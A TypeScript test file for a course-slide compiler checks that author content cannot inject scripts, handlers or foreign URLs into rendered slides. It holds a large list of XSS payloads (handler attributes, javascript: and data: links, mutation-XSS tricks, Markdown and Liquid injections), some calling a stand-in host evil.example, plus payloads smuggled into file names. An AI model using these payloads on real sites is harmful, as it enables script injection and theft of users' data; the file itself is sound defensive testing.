import { type DefaultTreeAdapterTypes, parseFragment } from "parse5";
import { expect, test } from "vitest";
import { compileCourse } from "../../src/compiler/compile.ts";
import { someSources } from "./some-sources.ts";

/** Everything that a slide is ever made of. */
const elements = new Set(
  (
    "a abbr aside b bdi bdo blockquote br caption cite code col colgroup dd del dfn div dl dt em figcaption figure footer h1 h2 h3 h4 " +
    "h5 h6 header hr i img ins kbd li mark ol p path pre q rp rt ruby s samp section small span strong sub sup svg table " +
    "tbody td th thead time tr u ul var wbr details summary"
  ).split(" "),
);
const schemes = /^(?:https?:|mailto:|tel:|#|\/(?!\/)|[^:]*$)/i;

function complaints(html: string): readonly string[] {
  const found: string[] = [];
  const waiting: DefaultTreeAdapterTypes.ChildNode[] = [...parseFragment(html).childNodes];
  for (let node = waiting.pop(); node !== undefined; node = waiting.pop()) {
    if (!("tagName" in node)) continue;
    if (!elements.has(node.tagName)) found.push(`<${node.tagName}>`);
    for (const { name, value } of node.attrs) {
      if (/^(?:on|style$|srcdoc|srcset|formaction|is$|slot|ping|http-equiv|xlink)/i.test(name))
        found.push(name);
      if (
        ["href", "src", "poster", "action", "background"].includes(name) &&
        !schemes.test([...value].filter((one) => one > " ").join(""))
      )
        found.push(`${name}=${value}`);
      if (name === "src" && !/^(?:\/course\/|data:image\/svg\+xml,)/.test(value))
        found.push(`${name}=${value}`);
      if (name === "id" && !/^fn(?:ref)?:/.test(value)) found.push(`id=${value}`);
      if (
        /^data-(?:src|background|markdown|autoplay|preview|trigger|auto-animate|visibility|state)/.test(
          name,
        )
      )
        found.push(name);
    }
    waiting.push(...node.childNodes);
  }
  return found;
}

const call = "alert(1)";
/** Scripts, as authors who mean harm have written them for twenty years. */
const payloads: readonly string[] = [
  `<script>${call}</script>`,
  `<scr<script>ipt>${call}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${call}>`,
  `<img src="x" onerror="${call}">`,
  `<img """><script>${call}</script>">`,
  `<img src="x\`\`onerror=${call}">`,
  `<svg onload="${call}">`,
  `<svg/onload=${call}>`,
  `<svg><animate onbegin="${call}" attributeName="x" dur="1s">`,
  `<svg><a xlink:href="javascript:${call}"><text y="20">x</text></a></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<math href="javascript:${call}">x</math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><img src=x onerror="${call}"></template>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>${call}</script>"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/x&quot; onload=&quot;${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${call}>">`,
  `<video><source onerror="${call}"></video>`,
  `<video src="x" onerror="${call}" poster="javascript:${call}"></video>`,
  `<audio src="x" onerror=${call}></audio>`,
  `<details open ontoggle="${call}"><summary onclick=${call}>x</summary></details>`,
  `<body onload="${call}">`,
  `<marquee onstart="${call}">x</marquee>`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="jav&#x09;ascript:${call}">x</a>`,
  `<a href="java\u0000script:${call}">x</a>`,
  `<a href="&#1;javascript:${call}">x</a>`,
  `<a href="javascript&colon;${call}">x</a>`,
  `<a href="  javascript:${call}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:${call}" target="_top">x</a>`,
  `<a href="x" onmouseover="${call}" style="position:fixed;inset:0;z-index:9">x</a>`,
  `<div style="background:url(javascript:${call});position:absolute">x</div>`,
  `<table background="javascript:${call}"><td background="javascript:${call}">x</table>`,
  `<link rel="stylesheet" href="javascript:${call}">`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><input name="key"><button>Join</button></form>`,
  `<input autofocus onfocus="${call}">`,
  `<isindex action="javascript:${call}" type="image">`,
  `<p id="stage" class="reveal slides fragment wall player" data-background-iframe="https://evil.example/">x</p>`,
  `<section data-background-iframe="javascript:${call}" data-markdown="x.md">x</section>`,
  `<img src="//evil.example/track.png"><img srcset="//evil.example/track.png 1x">`,
  `<img src="https://evil.example/track.png" alt="x" onload="${call}">`,
  `<img name="getElementById" id="location" src="x">`,
  `<a id="cookie" name="body" href="x">x</a>`,
  `<x-y onclick="${call}" is="z">x</x-y>`,
  `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml-stylesheet href="javascript:${call}"?>`,
  `\u2028<img src=x onerror=${call}>`,
  `</section></div></body><script>${call}</script>`,
  `"><img src=x onerror=${call}>`,
  `' onmouseover='${call}`,
  `\`\`\`"><img src=x onerror=${call}>\nx\n\`\`\``,
  `\`<img src=x onerror=${call}>\``,
  `[x](javascript:${call})`,
  `[x](JaVaScript:${call} "t")`,
  `[x](<javascript:${call}>)`,
  `[x](data:text/html,x)`,
  `[x][1]\n\n[1]: javascript:${call}`,
  `<javascript:${call}>`,
  `![x](javascript:${call})`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![x" onerror="${call}](x.png)`,
  `![x](x.png){: onerror="${call}" style="position:fixed"}`,
  `x\n{: onclick="${call}" style="position:fixed" id="stage"}`,
  `[x](y){:onclick="${call}" href="javascript:${call}"}`,
  `# x {#stage}\n{: onclick="${call}"}`,
  `{::nomarkdown}<script>${call}</script>{:/}`,
  `{% raw %}<script>${call}</script>{% endraw %}`,
  `{{ "<script>${call}</script>" }}`,
  `{{ page.title }}`,
  `{% capture x %}<script>${call}</script>{% endcapture %}{{ x }}`,
  `$$<script>${call}</script>$$`,
  `| <script>${call}</script> | <img src=x onerror=${call}> |\n|---|---|\n| x | y |`,
  `[^1]\n\n[^1]: <script>${call}</script>`,
  `*[HTML]: "><script>${call}</script>\n\nHTML`,
];

function htmlOf(page: string): string {
  const { course } = compileCourse(
    someSources(
      {
        "_config.yml": `title: '<script>${call}</script>'\nlicense: '<img src=x onerror=${call}>'\n`,
        [`mod"><script>${call}</script>/_posts/2001-01-01-x"><img src=x onerror=${call}>.md`]: page,
      },
      { others: ["x.png"] },
    ),
  );
  return course.modules
    .flatMap(({ pages }) => pages.flatMap(({ decks }) => decks.flatMap(({ slides }) => slides)))
    .map(({ html, notes }) => html + notes)
    .join("\n");
}

const quoted = (payload: string): string =>
  `'${payload.replaceAll("'", "''").replaceAll("\n", " ").replaceAll("\0", " ")}'`;
const carriers: readonly (readonly [string, (payload: string) => string])[] = [
  ["in the text", (payload) => `Text.\n\n${payload}\n\nMore ${payload} text.\n`],
  [
    "in a callout",
    (payload) =>
      `<div class="callout activity" markdown="1">\n\n## Worksheet #1: ${payload}\n\nWhat? ${payload}\n\n* ${payload}\n* Why?\n\n</div>\n`,
  ],
  [
    "in raw HTML",
    (payload) =>
      `<div class="callout videos">\n${payload}\n<div class="videotime">${payload}</div></div>\n`,
  ],
  [
    "in a heading, a quote, a list and a table",
    (payload) =>
      `## ${payload}\n\n> x<br/>– ${payload}\n\n* ${payload}\n\n<table><tr><th>${payload}</th></tr></table>\n`,
  ],
  [
    "in the front matter",
    (payload) =>
      `---\ntitle: ${quoted(payload)}\npermalink: ${quoted(payload)}\n---\n# ${payload}\n\nText.\n`,
  ],
];

test.each(carriers)(
  "no script, handler or foreign address of an author's reaches a slide: %s",
  (_, carry) => {
    for (const payload of payloads) {
      expect({ payload, left: complaints(htmlOf(carry(payload))) }).toEqual({ payload, left: [] });
    }
  },
);

test("the check itself would see one", () => {
  expect(
    complaints(
      '<p onclick="x" id="a"><script>x</script><a href="javascript:x">y</a><img src="//e/x"></p>',
    ).length,
  ).toBe(5);
});

test.each([
  ["boxes inside each other", "<div>".repeat(20_000)],
  ["quotes inside each other", ">".repeat(5_000)],
  [
    "lists inside each other",
    Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}* x`).join("\n"),
  ],
  ["emphasis that never ends", "*a _b ".repeat(5_000)],
  ["brackets that never close", "[".repeat(20_000)],
  ["links that never close", "[a](".repeat(5_000)],
  ["attribute lists", "{: ".repeat(20_000)],
  ["backticks", Array.from({ length: 300 }, (_, length) => "`".repeat(length)).join("a")],
  ["comments that never end", "<!-- ".repeat(20_000)],
  ["dashes in a quote", `> ${"x. - Ab ".repeat(10_000)}`],
  [
    "an endless sentence of rates",
    `<div class="callout activity" markdown="1">\n\n${"rate 1 to column and, then ".repeat(10_000)}\n\n</div>`,
  ],
  [
    "many small questions",
    `<div class="callout activity" markdown="1">\n\n${"* What is it?\n".repeat(1_000)}\n\n</div>`,
  ],
  ["formatting that a browser would rebuild", "<p><b><i><u><s>x".repeat(1_000)],
  ["a table of one long row", `|${" a |".repeat(5_000)}`],
])("%s end", { timeout: 60_000 }, (_, page) => {
  expect(htmlOf(page)).toContain("data-");
});
